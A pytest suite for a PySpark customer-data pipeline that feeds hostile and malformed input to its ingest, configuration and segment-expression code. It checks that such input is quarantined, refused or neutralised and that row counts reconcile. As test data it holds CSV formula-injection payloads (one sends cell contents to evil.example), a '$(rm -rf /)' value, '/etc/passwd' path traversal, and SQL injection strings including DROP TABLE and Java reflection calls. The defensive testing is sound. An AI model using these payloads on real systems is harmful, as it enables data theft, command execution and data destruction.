"""Hostile and broken input: each gets a clear error or a quarantine row, nothing crashes,
nothing is lost, counts reconcile.

Tried: a file declared UTF-8 holding cp1251 bytes, a 2 MB line, JSON nested 5,000 levels deep,
a wrong JSON type (an object where a string is declared), words in number columns, CSV
injection payloads (kept verbatim in bronze and silver; neutralised in CSV exports), NUL bytes,
an unterminated quote, an empty file, a header-only file, an empty and a missing source folder,
path traversal in configured paths, table and source names, SQL injection in segment
expressions.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from pyspark.sql import SparkSession
from pyspark.sql import functions as F
from test_privacy_support import make_ctx, private_conf, write

from cdp_spark.config import load_config
from cdp_spark.errors import ConfigError
from cdp_spark.ingest import run_ingest
from cdp_spark.pipeline import RunContext
from cdp_spark.schemas import DQ_REPORT_TABLE, MANIFEST_TABLE, QUARANTINE_TABLE
from cdp_spark.standardize import run_standardize
from cdp_spark.storage import split_table_name

INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
]


TIME = "2026-03-01T10:00:00Z"


def csv_line(*fields: str) -> bytes:
    """One CSV line, quoted as a spreadsheet export would quote it."""
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(fields)
    return out.getvalue().encode()


def reconcile(ctx: RunContext, source: str) -> dict[str, int]:
    """Check every promise about counts for one source; return the figures."""
    lake = ctx.lake
    manifest = lake.read(MANIFEST_TABLE).where(F.col("source") == source).collect()
    for m in manifest:  # per file: read = bronze + quarantined
        assert m["rows_read"] == m["rows_bronze"] + m["rows_quarantined"], m
    read = sum(m["rows_read"] for m in manifest)
    bronze_rows = lake.read(f"bronze.{source}").count()
    q = lake.read(QUARANTINE_TABLE).where(F.col("source") == source)
    q_bronze = q.where(F.col("layer") == "bronze").count()
    q_silver = q.where(F.col("layer") == "silver").count()
    assert bronze_rows == sum(m["rows_bronze"] for m in manifest)
    assert read == bronze_rows + q_bronze
    dq = lake.read(DQ_REPORT_TABLE).where(F.col("source") == source).collect()
    rows_in = sum(d["rows_in"] for d in dq)
    rows_out = sum(d["rows_out"] for d in dq)
    dupes = sum(d["rows_duplicate"] for d in dq)
    # silver + silver quarantine + duplicates = bronze
    assert rows_in == bronze_rows
    assert rows_out + dupes + q_silver == bronze_rows
    assert lake.read(f"silver.{source}").count() == rows_out
    return {"read": read, "bronze": bronze_rows, "q_bronze": q_bronze, "q_silver": q_silver}


def test_hostile_csv_lines_are_quarantined_or_kept_verbatim(
    spark: SparkSession, tmp_path: Path
) -> None:
    ctx = make_ctx(spark, tmp_path)
    header = "customer_id,first_name,last_name,email,phone,country,updated_at"
    huge = "x" * 2_000_000
    lines = [
        header.encode(),
        *[
            csv_line(f"I{i}", p, "L", f"i{i}@x.ru", "", "RU", TIME)
            for i, p in enumerate(INJECTIONS)
        ],
        "W1,Пётр,Иванов,w1@x.ru,,RU,2026-03-01T10:00:00Z".encode("cp1251"),  # wrong encoding
        f"H1,{huge},L,h1@x.ru,,RU,2026-03-01T10:00:00Z".encode(),  # a 2 MB line
        b"N1,nul\x00byte,L,n1@x.ru,,RU,2026-03-01T10:00:00Z",  # a NUL byte
        b"T1,wrong,types,t1@x.ru,,RU,yesterday",  # not a time
        b'Q1,"unterminated,L,q1@x.ru,,RU,2026-03-01T10:00:00Z',  # an open quote
    ]
    write(tmp_path / "landing/crm/crm_20260301.csv", b"\n".join(lines) + b"\n")
    run_ingest(ctx, sources=["p_crm"])
    run_standardize(ctx, sources=["p_crm"])
    figures = reconcile(ctx, "p_crm")
    assert figures["read"] == len(lines) - 1

    lake = ctx.lake
    reasons = {
        (r["raw"] or "")[:2]: r["reason"]
        for r in lake.read(QUARANTINE_TABLE).where(F.col("source") == "p_crm").collect()
    }
    assert reasons["T1"] == "bad_type:updated_at"
    assert "invalid_encoding" in reasons.values()
    assert reasons.get("Q1") in ("wrong_column_count", "malformed_csv", None)
    silver = {r["customer_id"]: r for r in lake.read("silver.p_crm").collect()}
    # Formula payloads are data: kept verbatim, byte for byte (neutralised only in exports).
    assert [silver[f"I{i}"]["first_name"] for i in range(len(INJECTIONS))] == INJECTIONS
    assert len(silver["H1"]["first_name"]) == 2_000_000
    assert silver["N1"]["first_name"] == "nul\x00byte"


def test_hostile_json_lines_are_quarantined_or_typed(spark: SparkSession, tmp_path: Path) -> None:
    ctx = make_ctx(spark, tmp_path)
    deep = '{"a":' * 5000 + "1" + "}" * 5000
    rows = [
        json.dumps({"order_id": "O1", "customer_id": "C1", "total_amount": "10.00"}),
        json.dumps({"order_id": "O2", "customer_id": {"nested": [1, 2]}, "total_amount": "1"}),
        json.dumps({"order_id": "O3", "customer_id": "C3", "total_amount": "ten"}),
        json.dumps({"order_id": "O4", "customer_id": "C4", "total_amount": ["1"]}),
        json.dumps({"order_id": "O5", "customer_id": "C5", "total_amount": "1", "x": deep}),
        deep,
        '{"order_id": "O6", "customer_id": "' + "z" * 1_000_000 + '"}',
        "[1, 2, 3]",
        "null",
        '{"order_id": "O7"',
    ]
    write(tmp_path / "landing/orders/orders_20260301.jsonl", "\n".join(rows) + "\n")
    run_ingest(ctx, sources=["p_orders"])
    run_standardize(ctx, sources=["p_orders"])
    figures = reconcile(ctx, "p_orders")
    assert figures["read"] == len(rows)
    silver = {r["order_id"]: r for r in ctx.lake.read("silver.p_orders").collect()}
    assert str(silver["O1"]["total_amount"]) == "10.00"
    assert len(silver["O6"]["customer_id"]) == 1_000_000
    quarantined = ctx.lake.read(QUARANTINE_TABLE).where(F.col("source") == "p_orders").collect()
    by_reason: dict[str, int] = {}
    for r in quarantined:
        by_reason[r["reason"]] = by_reason.get(r["reason"], 0) + 1
    assert by_reason.get("malformed_json", 0) >= 3  # the bare deep value, [1,2,3], null, cut
    assert by_reason.get("bad_type:total_amount", 0) >= 1  # "ten"


def test_empty_file_header_only_file_and_empty_or_missing_folder(
    spark: SparkSession, tmp_path: Path
) -> None:
    ctx = make_ctx(spark, tmp_path)
    write(tmp_path / "landing/crm/crm_20260301.csv", b"")
    write(
        tmp_path / "landing/crm/crm_20260302.csv",
        "customer_id,first_name,last_name,email,phone,country,updated_at\n",
    )
    (tmp_path / "landing/support").mkdir(parents=True)  # an empty folder; orders: none at all
    report = run_ingest(ctx, sources=["p_crm", "p_tickets", "p_orders"])
    assert report.figures["read"] == 0
    assert report.figures["bronze"] == 0 and report.figures["quarantined"] == 0
    std = run_standardize(ctx, sources=["p_crm", "p_tickets", "p_orders"])
    assert std.figures["rows_out"] == 0
    manifest = ctx.lake.read(MANIFEST_TABLE).collect()
    assert sorted((m["file_path"], m["rows_read"]) for m in manifest) == [
        ("crm/crm_20260301.csv", 0),
        ("crm/crm_20260302.csv", 0),
    ]


EVIL = {"path": "crm", "format": "csv", "columns": [{"name": "a"}]}


@pytest.mark.parametrize(
    ("override", "message"),
    [
        ({"storage.root": "../../etc"}, "storage.root"),
        ({"storage.root": "lake/../../../tmp"}, "storage.root"),
        ({"paths.landing": "data/../../secrets"}, "paths.landing"),
        ({"paths.exports": "../exports"}, "paths.exports"),
        (
            {
                "sources": {
                    "evil": {"path": "../../etc", "format": "csv", "columns": [{"name": "a"}]}
                }
            },
            "sources.evil.path",
        ),
        (
            {"sources": {"evil": {"path": "/etc", "format": "csv", "columns": [{"name": "a"}]}}},
            "sources.evil.path",
        ),
        (
            {
                "sources": {
                    "evil": {
                        "path": "crm",
                        "pattern": "../../etc/passwd",
                        "format": "csv",
                        "columns": [{"name": "a"}],
                    }
                }
            },
            "sources.evil.pattern",
        ),
        (
            {"sources": {"../x": {"path": "crm", "format": "csv", "columns": [{"name": "a"}]}}},
            "source names",
        ),
        ({"privacy.hash_key_env": "$(rm -rf /)"}, "privacy.hash_key_env"),
    ],
)
def test_path_traversal_in_configuration_is_refused_clearly(
    override: dict[str, object], message: str
) -> None:
    with pytest.raises(ConfigError, match="invalid configuration") as err:
        load_config("local", conf_dir=private_conf(), environ={}, overrides=override)
    assert message in str(err.value)


@pytest.mark.parametrize(
    "name",
    ["silver/../etc", "../silver.x", "silver.x/../../y", "silver.", "etc.passwd", "gold.a;b"],
)
def test_table_names_cannot_escape_the_lakehouse(name: str) -> None:
    with pytest.raises(ValueError, match="must look like"):
        split_table_name(name)


def test_absolute_roots_and_plain_names_are_still_accepted() -> None:
    cfg = load_config(
        "local",
        conf_dir=private_conf(),
        environ={},
        overrides={"storage.root": "/data/lake", "paths.landing": "s3a://bucket/landing"},
    )
    assert cfg.lakehouse_root == "/data/lake"
    assert cfg.landing_dir == "s3a://bucket/landing"


# --- the activation end: CSV injection, segment expressions -----------------------------------


def test_csv_injection_payloads_are_neutralised_in_csv_exports(spark: SparkSession) -> None:
    from cdp_spark.profiles.activation import build_file_export

    audience = spark.createDataFrame(
        [(f"p{i}", p, ["=x", "ok"], 1.5) for i, p in enumerate(INJECTIONS)]
        + [("p9", "Anna", [], -3.0)],
        "person_id string, first_name string, tags array<string>, clv double",
    )
    rows = build_file_export(audience, ["first_name", "tags", "clv"], csv=True).collect()
    cells = {r["person_id"]: r for r in rows}
    for i, payload in enumerate(INJECTIONS):
        assert cells[f"p{i}"]["first_name"] == "'" + payload  # text, verbatim after the quote
        assert cells[f"p{i}"]["tags"] == "'=x;ok"
    assert cells["p9"]["first_name"] == "Anna"
    assert cells["p9"]["clv"] == -3.0  # numbers are not text cells


SEGMENT_ATTACKS = [
    "clv > 0; DROP TABLE gold.customer_profiles",
    "clv > 0 -- and consent_email",
    "clv > 0 /* hidden */ or true",
    "clv > (select max(clv) from gold.customer_profiles)",
    "exists(select 1)",
    "clv in (select clv from gold.customer_profiles)",
    "reflect('java.lang.Runtime', 'getRuntime') is not null",
    "java_method('java.lang.System', 'exit', 0) = 1",
    "input_file_name() like '%'",
    "clv > 0) union select * from gold.customer_profiles where (true",
    "transform(emails, x -> x) is not null",
    "*",
    "drop table gold.customer_profiles",
    "clv > 0 or secret_column = 1",
    "lifecycle_stage = 'a'' or ''1''=''1'",  # quotes balanced: a plain string, not an escape
]


@pytest.mark.parametrize("text", SEGMENT_ATTACKS)
def test_segment_expressions_trying_sql_injection_are_refused(
    spark: SparkSession, text: str
) -> None:
    from pyspark.sql.types import (
        ArrayType,
        BooleanType,
        DoubleType,
        StringType,
        StructField,
        StructType,
    )

    from cdp_spark.profiles.expressions import SegmentExpressionError, validate_expression

    schema = StructType(
        [
            StructField("clv", DoubleType()),
            StructField("lifecycle_stage", StringType()),
            StructField("consent_email", BooleanType()),
            StructField("emails", ArrayType(StringType())),
        ]
    )
    if text.startswith("lifecycle_stage"):
        # A tautology inside a string literal is just a string comparison: allowed, harmless.
        assert validate_expression(spark, text, schema, segment="s").columns == ("lifecycle_stage",)
        return
    with pytest.raises(SegmentExpressionError):
        validate_expression(spark, text, schema, segment="s")
